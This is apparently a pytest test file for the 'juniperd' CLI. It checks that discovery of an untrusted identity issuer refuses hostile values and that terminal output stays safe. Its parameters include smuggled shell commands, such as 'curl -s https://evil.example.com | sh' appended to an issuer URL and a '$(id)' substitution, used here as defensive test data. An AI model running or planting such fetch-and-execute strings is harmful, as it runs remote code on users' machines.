"""An issuer that nobody trusts yet, and what its words do in a person's terminal."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from juniperd.cli import connection, kindly, log, setup_issuer
from juniperd.config import Network
from juniperd.errors import ConfigError
from juniperd.http import Http
from juniperd.setup import issuer, trusted
from juniperd.setup.issuer import Found

Said = dict[str, Any]


@pytest.fixture
async def stranger() -> AsyncIterator[tuple[str, Said]]:
    """An issuer's URL, and what a test has it say beside what it should."""
    said: Said = {}
    app = web.Application()

    async def juniper(_: web.Request) -> web.Response:
        identity = {"issuer": url + "/idp"}
        return web.json_response({"issuer": url, "identities": [{**identity, **said.pop("identity", {})}], **said})

    async def provider(_: web.Request) -> web.Response:
        return web.json_response({"device_authorization_endpoint": "x"})

    app.router.add_get("/.well-known/juniper", juniper)
    app.router.add_get("/idp/.well-known/openid-configuration", provider)
    async with TestServer(app, host="127.0.0.1") as server:
        url = str(server.make_url("")).rstrip("/")
        yield url, said


@pytest.mark.parametrize(
    "named",
    [
        "https://a.example.com; curl -s https://evil.example.com | sh",
        "https://a.example.com/$(id)",
        "x'; run: curl -s https://evil.example.com | sh",
        {"a": "b"},
    ],
)
async def test_no_command_of_a_strangers_is_offered_to_be_run(stranger: tuple[str, Said], named: object) -> None:
    url, said = stranger
    said["issuer"] = named
    with pytest.raises(ConfigError) as caught:
        await discovered(url)
    assert "evil" not in str(caught.value)
    assert "$(" not in str(caught.value)
    assert "says that its issuer is " in caught.value.message


@pytest.mark.parametrize(
    "api", ["http://192.0.2.1", "https://juniper.example.com, trusted.example.com", "javascript:x"]
)
async def test_an_address_of_its_api_that_is_none_is_refused(stranger: tuple[str, Said], api: str) -> None:
    url, said = stranger
    said["api_url"] = api
    with pytest.raises(ConfigError, match="is not an https URL"):
        await discovered(url)


def test_a_long_name_does_not_push_the_address_out_of_the_line(capsys: pytest.CaptureFixture[str]) -> None:
    name = "Company (https://idp.company.example.com), device flow " + "-" * 3000
    evil = "https://evil.example.com"
    setup_issuer._show(Found(evil, evil, evil + "/idp", name, "device"), Network())
    assert f"({evil}/idp), device flow" in capsys.readouterr().out


@pytest.mark.parametrize("how", ["closed", "dangling", "loop"])
def test_pins_that_cannot_be_looked_at_are_not_taken_for_none(tmp_path: Path, how: str) -> None:
    path = tmp_path / "trusted.toml"
    if how == "closed":
        path = tmp_path / ("x" * 300)  # as for who may not enter its folder, which root always may
    else:
        path.symlink_to(path if how == "loop" else tmp_path / "nothing")
    with pytest.raises(ConfigError, match="cannot be looked at"):
        trusted.load(path)


async def discovered(url: str) -> Found:
    async with Http(plain_loopback=True) as http:
        return await issuer.discover(url, http, sandbox=True)


@pytest.mark.parametrize("event", [[], {}, None, 7])
def test_a_log_of_odd_events_is_shown_all_the_same(event: object) -> None:
    shown = list(log._lines({"issuers": {"team": {"events": [{"event": event, "session": event}]}}}))
    assert shown[:4] == ["sessions", "  none", "mints and refusals", "  none"]


@pytest.mark.parametrize("document", [{}, {"scopes": None}, {"scopes": [7, {"name": "a", "targets": [7]}]}, []])
def test_a_guess_among_odd_rows_is_none(document: object, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(connection, "result", lambda *_: {"issuers": {"team": document}})
    assert list(kindly.audiences(kindly.seen(None))) == []
